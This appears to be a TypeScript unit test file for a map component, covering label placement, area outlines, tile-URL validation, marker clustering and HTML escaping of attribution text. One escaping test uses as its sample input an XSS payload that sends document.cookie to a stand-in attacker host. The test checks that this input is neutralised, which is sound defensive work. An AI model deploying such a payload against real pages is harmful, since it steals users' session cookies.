import { describe, expect, it } from "vitest";
import { areaRing, clusterMarkers, htmlText, hull, isTileTemplate, mapStyle, outline, placeLabels, type Marker } from "./map";

const view = { width: 800, height: 600 };
const marker = (id: string, x: number, y: number, width = 100): Marker => ({ id, x, y, r: 14, width, height: 20 });

describe("the map's labels", () => {
  it("go to the right of a marker when nothing is there", () => {
    const labels = placeLabels([marker("a", 100, 100)], view);
    expect(labels.get("a")).toEqual({ side: "right", left: 118, top: 90 });
  });
  it("cover no other marker: a neighbour on the right sends the label left", () => {
    const labels = placeLabels([marker("a", 300, 300), marker("b", 360, 300)], view);
    expect(labels.get("a")?.side).not.toBe("right");
    // No label box overlaps either marker's circle.
    for (const [id, l] of labels) {
      const w = 100;
      for (const m of [marker("a", 300, 300), marker("b", 360, 300)]) {
        const apart = l.left + w <= m.x - m.r || m.x + m.r <= l.left || l.top + 20 <= m.y - m.r || m.y + m.r <= l.top;
        expect(apart, `${id} covers ${m.id}`).toBe(true);
      }
    }
  });
  it("cover no other label, and are left out where there is no room", () => {
    // A tight cluster: three markers in a row, each 30 px apart, wide labels.
    const cluster = [marker("a", 400, 300, 200), marker("b", 430, 300, 200), marker("c", 460, 300, 200), marker("d", 430, 270, 200), marker("e", 430, 330, 200)];
    const labels = placeLabels(cluster, view);
    const boxes = [...labels.values()].map((l) => ({ l: l.left, t: l.top, r: l.left + 200, b: l.top + 20 }));
    for (let i = 0; i < boxes.length; i++)
      for (let j = i + 1; j < boxes.length; j++) {
        const [p, q] = [boxes[i]!, boxes[j]!];
        expect(p.l < q.r && q.l < p.r && p.t < q.b && q.t < p.b).toBe(false);
      }
    expect(labels.size).toBeLessThan(cluster.length);
    // The first (most serious) is always labelled when it can be.
    expect(labels.has("a")).toBe(true);
  });
  it("stay inside the view: a marker at the right edge is labelled on its left", () => {
    expect(placeLabels([marker("a", 790, 300)], view).get("a")?.side).toBe("left");
  });
});

describe("area outlines", () => {
  it("are drawn as the coordinator drew them, closed, else around the area's places", () => {
    const drawn: [number, number][] = [[17.76, 59.19], [17.78, 59.19], [17.77, 59.21]];
    const places = [{ area: "a", retired: false, lat: 59.2, lon: 17.77 }];
    expect(areaRing({ id: "a", outline: drawn }, places)).toEqual([...drawn, drawn[0]]);
    const hullRing = areaRing({ id: "a", outline: null }, places);
    expect(hullRing).toEqual(outline(places));
    expect(hullRing.length).toBeGreaterThan(3);
    expect(areaRing({ id: "b", outline: null }, places)).toEqual([]);
  });
  it("the hull keeps the corners and drops the inside", () => {
    const h = hull([[0, 0], [2, 0], [1, 1], [2, 2], [0, 2], [1, 0.5]]);
    expect(h).toHaveLength(4);
    expect(h).toEqual(expect.arrayContaining([[0, 0], [2, 0], [2, 2], [0, 2]]));
  });
  it("an area of one place still has a closed shape around it", () => {
    const ring = outline([{ lat: 59.2, lon: 17.77 }], 250);
    expect(ring.length).toBeGreaterThanOrEqual(5);
    expect(ring[0]).toEqual(ring[ring.length - 1]);
    const lats = ring.map((p) => p[1]);
    expect(Math.min(...lats)).toBeLessThan(59.2);
    expect(Math.max(...lats)).toBeGreaterThan(59.2);
    // About 250 m: 0.0022° of latitude.
    expect(Math.max(...lats) - 59.2).toBeCloseTo(0.00225 * Math.sin((3 * Math.PI) / 8), 4);
  });
  it("encloses every place of the area", () => {
    const places = [{ lat: 59.2004, lon: 17.7704 }, { lat: 59.1934, lon: 17.7508 }, { lat: 59.2301, lon: 17.8199 }];
    const ring = outline(places);
    for (const p of places) {
      // Inside a counter-clockwise convex ring: left of every edge.
      for (let i = 0; i + 1 < ring.length; i++) {
        const [a, b] = [ring[i]!, ring[i + 1]!];
        expect((b[0] - a[0]) * (p.lat - a[1]) - (b[1] - a[1]) * (p.lon - a[0])).toBeGreaterThan(0);
      }
    }
  });
});

describe("the map's style", () => {
  it("has tiles only when a source is given, under the area outlines", () => {
    const plain = mapStyle(null, { background: "#fff", area: "#333" }, []);
    expect(plain.sources.basemap).toBeUndefined();
    const tiled = mapStyle({ tiles: "basemap://localhost/{z}/{x}/{y}", maxzoom: 14 }, { background: "#fff", area: "#333" }, [{ id: "a", name: "Säby", ring: [] }]);
    expect(tiled.layers.map((l) => l.id)).toEqual(["background", "basemap", "area-fill", "area-line"]);
    expect(tiled.sources.basemap).toMatchObject({ type: "raster", tiles: ["basemap://localhost/{z}/{x}/{y}"], maxzoom: 14 });
  });
  it("accepts only templates with zoom, column and row", () => {
    expect(isTileTemplate("https://tile.openstreetmap.org/{z}/{x}/{y}.png")).toBe(true);
    expect(isTileTemplate("https://tile.openstreetmap.org/{z}/{x}.png")).toBe(false);
    expect(isTileTemplate("javascript:{z}{x}{y}")).toBe(false);
  });
  it("takes a WMTS address, its tile matrix, column and row being z, x and y", () => {
    expect(isTileTemplate("https://maps.example.se/wmts/topowebb/default/3857/{TileMatrix}/{TileRow}/{TileCol}.png")).toBe(true);
    expect(isTileTemplate("https://maps.example.se/wmts?TILEMATRIX={tilematrix}&TILEROW={tilerow}")).toBe(false);
  });
  it("takes the numbers only in the path, so that every tile comes from the one server", () => {
    expect(isTileTemplate("https://tiles.example.org/wmts?z={z}&x={x}&y={y}")).toBe(true);
    expect(isTileTemplate("https://{z}.tiles.example.org/{x}/{y}.png")).toBe(false);
    expect(isTileTemplate("https://tiles.example.org:{z}/{x}/{y}.png")).toBe(false);
    expect(isTileTemplate("https://{x}@tiles.example.org/{z}/{y}.png")).toBe(false);
  });
  it("fetches in the clear only from this computer", () => {
    expect(isTileTemplate(" http://127.0.0.1:9000/{z}/{x}/{y}.png ")).toBe(true);
    expect(isTileTemplate("http://localhost/{z}/{x}/{y}.png")).toBe(true);
    expect(isTileTemplate("http://[::1]:8080/{z}/{x}/{y}.png")).toBe(true);
    expect(isTileTemplate("http://tiles.example.org/{z}/{x}/{y}.png")).toBe(false);
    expect(isTileTemplate("http://127.0.0.1.example.org/{z}/{x}/{y}.png")).toBe(false);
    expect(isTileTemplate("http://localhost@tiles.example.org/{z}/{x}/{y}.png")).toBe(false);
  });
});

/** What a browser shows for `html` (character references resolved), or null where the
 * HTML would hold an element: the test's stand-in for setting it as innerHTML. */
function shownText(html: string): string | null {
  if (/<[a-zA-Z!/?]/.test(html)) return null;
  return html.replace(/&#(\d+);|&(amp|lt|gt|quot|apos);/g, (_, code: string | undefined, name: string | undefined) =>
    code ? String.fromCharCode(Number(code)) : ({ amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" } as Record<string, string>)[name!]!,
  );
}

describe("a basemap's attribution", () => {
  const hostile = `<img src=x onerror="fetch('https://evil.example/'+document.cookie)"> © Lantmäteriet & "OSM"`;
  it("is rendered as text: markup in it is shown, never made an element", () => {
    const style = mapStyle({ tiles: "basemap://localhost/{z}/{x}/{y}", attribution: hostile }, { background: "#fff", area: "#333" }, []);
    const attribution = (style.sources.basemap as { attribution?: string }).attribution!;
    expect(attribution, "the control sets it as HTML: no tag may survive").not.toMatch(/</);
    expect(shownText(attribution), "the reader sees exactly what the file says").toBe(hostile);
  });
  it("keeps plain text as it is", () => {
    expect(htmlText("© Lantmäteriet")).toBe("© Lantmäteriet");
    expect(shownText(htmlText("a < b && c > d"))).toBe("a < b && c > d");
  });
});

describe("the map's markers", () => {
  const pin = (id: string, x: number, y: number, r = 22) => ({ id, x, y, r });
  it("stand alone where they do not touch", () => {
    const clusters = clusterMarkers([pin("a", 100, 100), pin("b", 200, 100)]);
    expect(clusters.map((c) => c.members)).toEqual([["a"], ["b"]]);
  });
  it("are gathered where they would cover one another, at the first one's place", () => {
    const clusters = clusterMarkers([pin("a", 100, 100), pin("b", 110, 105), pin("c", 300, 300), pin("d", 100, 100)]);
    expect(clusters.map((c) => c.members)).toEqual([["a", "b", "d"], ["c"]]);
    expect(clusters[0]).toMatchObject({ id: "a", x: 100, y: 100 });
    expect(clusters[0]!.r).toBeGreaterThan(22);
    // No two markers drawn overlap.
    for (const a of clusters) for (const b of clusters) if (a !== b) expect(Math.hypot(a.x - b.x, a.y - b.y)).toBeGreaterThanOrEqual(a.r + b.r);
  });
  it("never overlap, even where a grown cluster comes to touch another", () => {
    const row = Array.from({ length: 12 }, (_, i) => pin(`p${i}`, 100 + i * 30, 100));
    const clusters = clusterMarkers(row);
    expect(clusters.flatMap((c) => c.members).sort()).toEqual(row.map((p) => p.id).sort());
    for (const a of clusters) for (const b of clusters) if (a !== b) expect(Math.hypot(a.x - b.x, a.y - b.y)).toBeGreaterThanOrEqual(a.r + b.r);
  });
});
